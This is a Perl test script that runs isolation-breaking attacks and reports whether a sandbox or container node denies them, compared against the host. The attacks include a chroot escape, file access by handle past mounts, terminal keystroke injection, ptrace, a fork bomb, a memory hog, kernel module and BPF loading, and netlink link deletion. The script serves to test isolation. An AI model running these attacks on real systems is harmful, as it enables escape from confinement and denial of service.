# Attacks that no tool makes: attack.pl WHAT ARGUMENT…  Prints `done …`, or `denied ERROR`; 0 or 1.
# The same file runs on the host, where the same attack must be possible: so a denial is the node's doing.
use strict;
use Socket;
my $intel = `uname -m` =~ /x86_64/;
# Numbers of system calls: x86-64, and the table that newer processors share.
my %number = (
  keyctl => [250, 219], add_key => [248, 217], ptrace => [101, 117], bpf => [321, 280], init_module => [175, 105], finit_module => [313, 273],
  setrlimit => [160, 164], name_to_handle_at => [303, 264], open_by_handle_at => [304, 265], pidfd_open => [434, 434], pidfd_send_signal => [424, 424],
  process_vm_readv => [310, 270], setns => [308, 268],
);
my $what = shift;
my %attacks = (
  # Lists or deletes links of a namespace that is only known by its number: links NSID [INDEX]
  links => sub {
    my ($nsid, $index) = @_;
    socket my $netlink, 16, SOCK_RAW, 0 or return denied();
    my $attribute = pack 'SSl', 8, 46, $nsid;    # IFLA_TARGET_NETNSID
    my $body = pack('CxSlLL', 0, 0, $index // 0, 0, 0) . $attribute;
    my ($type, $flags) = defined $index ? (17, 5) : (18, 0x301);    # RTM_DELLINK, acknowledged; RTM_GETLINK, all
    send $netlink, pack('LSSLL', 16 + length $body, $type, $flags, 1, 0) . $body, 0 or return denied();
    my @names;
    while (1) {
      defined recv $netlink, my $answer, 65536, 0 or return denied();
      while (length $answer >= 16) {
        my ($length, $kind) = unpack 'LS', $answer;
        my $message = substr $answer, 0, ($length + 3) & ~3, '';
        if ($kind == 2) { my $error = -unpack 'l', substr $message, 16; return done() unless $error; $! = $error; return denied() }
        if ($kind == 3) { my $error = -unpack 'l', substr $message, 16; return done(@names) unless $error; $! = $error; return denied() }
        push @names, $1 if $message =~ /\x03\x00([\w.@-]+)\0/;    # IFLA_IFNAME
      }
    }
  },
  signal => sub { kill 9, $_[0] or return denied(); done() },
  ptrace => sub {
    # PTRACE_SEIZE; `child` is one of our own.
    my $pid = shift;
    my $child = $pid eq 'child' ? fork // die : undef;
    if (defined $child && !$child) { sleep 600; exit }
    my $got = call('ptrace', 0x4206, $child // 0 + $pid, 0, 0);
    my $error = $!;
    kill 9, $child if $child;
    $! = $error;
    $got < 0 ? denied() : done();
  },
  abstract => sub {
    socket my $socket, AF_UNIX, SOCK_STREAM, 0 or return denied();
    connect $socket, pack_sockaddr_un("\0$_[0]") or return denied();
    done(scalar <$socket>);
  },
  'abstract-listen' => sub {
    socket my $listener, AF_UNIX, SOCK_STREAM, 0 or return denied();
    bind $listener, pack_sockaddr_un("\0$_[0]") and listen $listener, 1 or return denied();
    exit(do { close $listener; socket my $s, AF_UNIX, SOCK_STREAM, 0; connect($s, pack_sockaddr_un("\0$_[0]")) ? (print("done\n"), 0) : 1 }) if !fork // die;
    accept my $peer, $listener; print $peer "hello\n"; wait; exit $? >> 8;
  },
  tcp => sub {
    my ($address, $port) = @_;
    socket my $socket, AF_INET, SOCK_STREAM, 0 or return denied();
    local $SIG{ALRM} = sub { $! = 110; print "denied timed out\n"; exit 1 };
    alarm 2;
    connect $socket, pack_sockaddr_in($port, inet_aton($address)) or return denied();
    done(scalar <$socket>);
  },
  # The user's session keyring.
  key => sub { my ($type, $name) = ("user\0", "$_[0]\0"); call('keyctl', 10, -3, $type, $name, 0) < 0 ? denied() : done() },    # KEYCTL_SEARCH
  'key-add' => sub {
    my ($type, $name, $text) = ("user\0", "$_[0]\0", 'secret');
    call('keyctl', 1, 0) < 0 and return denied();    # a session keyring of ours
    call('add_key', $type, $name, $text, length $text, -3) < 0 and return denied();
    shift;
    exec @_;
  },
  bpf => sub {
    my ($code, $licence) = (pack('CCsl CCsl', 0xb7, 0, 0, 0, 0x95, 0, 0, 0), "GPL\0");
    my $attr = pack 'LLQQx96', 3, 2, unpack('Q', pack 'P', $code), unpack('Q', pack 'P', $licence);
    call('bpf', 5, $attr, length $attr) < 0 ? denied() : done();
  },
  module => sub { my ($image, $none) = ("\x7fELF" . "\0" x 60, "\0"); call('init_module', $image, length $image, $none) < 0 ? denied() : done() },
  # Out of a chroot: into a second one below, then up. `chroot FILE` prints the file as the real root has it.
  chroot => sub {
    mkdir "/tmp/deeper-$$";
    chroot "/tmp/deeper-$$" or return denied();
    chdir '..' for 1 .. 64;
    chroot '.' or return denied();
    open my $file, '<', $_[0] or return denied();
    done(scalar <$file>);
  },
  # A file by its handle, past every mount: handle FILE WHICH-FILE'S-FILE-SYSTEM
  handle => sub {
    open my $file, '<', $_[0] or return denied();
    my ($handle, $mount) = (pack('LlC128', 128, 0, (0) x 128), pack 'l', 0);
    my $path = "$_[0]\0";
    call('name_to_handle_at', -100, $path, $handle, $mount, 0) < 0 and return denied('no handle:');
    call('open_by_handle_at', fileno $file, $handle, 0) < 0 ? denied() : done();
  },
  # Types into the terminal that it is on.
  type => sub { for my $letter (split //, $_[0]) { my $one = $letter; ioctl STDIN, 0x5412, $one or return denied() } done() },
  rlimit => sub { call('setrlimit', 6, pack 'QQ', $_[0], $_[0]) < 0 ? denied() : done() },    # RLIMIT_NPROC
  bomb => sub {
    # As each user that is named, forks until it can no more; `held` says that the kernel refused.
    my $until = time + shift;
    for my $user (@_) {
      defined(my $child = fork) or next;
      next if $child;
      $) = "$user $user"; $( = $user; $< = $user; $> = $user;
      while (time < $until) { defined fork or select undef, undef, undef, 0.01 }
      exit;
    }
    sleep 1 while time < $until;
    done();
  },
  hog => sub { my @held; for (1 .. $_[0]) { push @held, 'x' x (1 << 20) } done(scalar(@held) . ' MiB') },
);
exit($attacks{$what} ? $attacks{$what}->(@ARGV) : die "no attack $what\n");

sub call { my $name = shift; $! = 0; return syscall $number{$name}[$intel ? 0 : 1], @_ }
sub done { print "done @_\n"; 0 }
sub denied { my $words = join ' ', @_, "$!"; print "denied $words\n"; 1 }
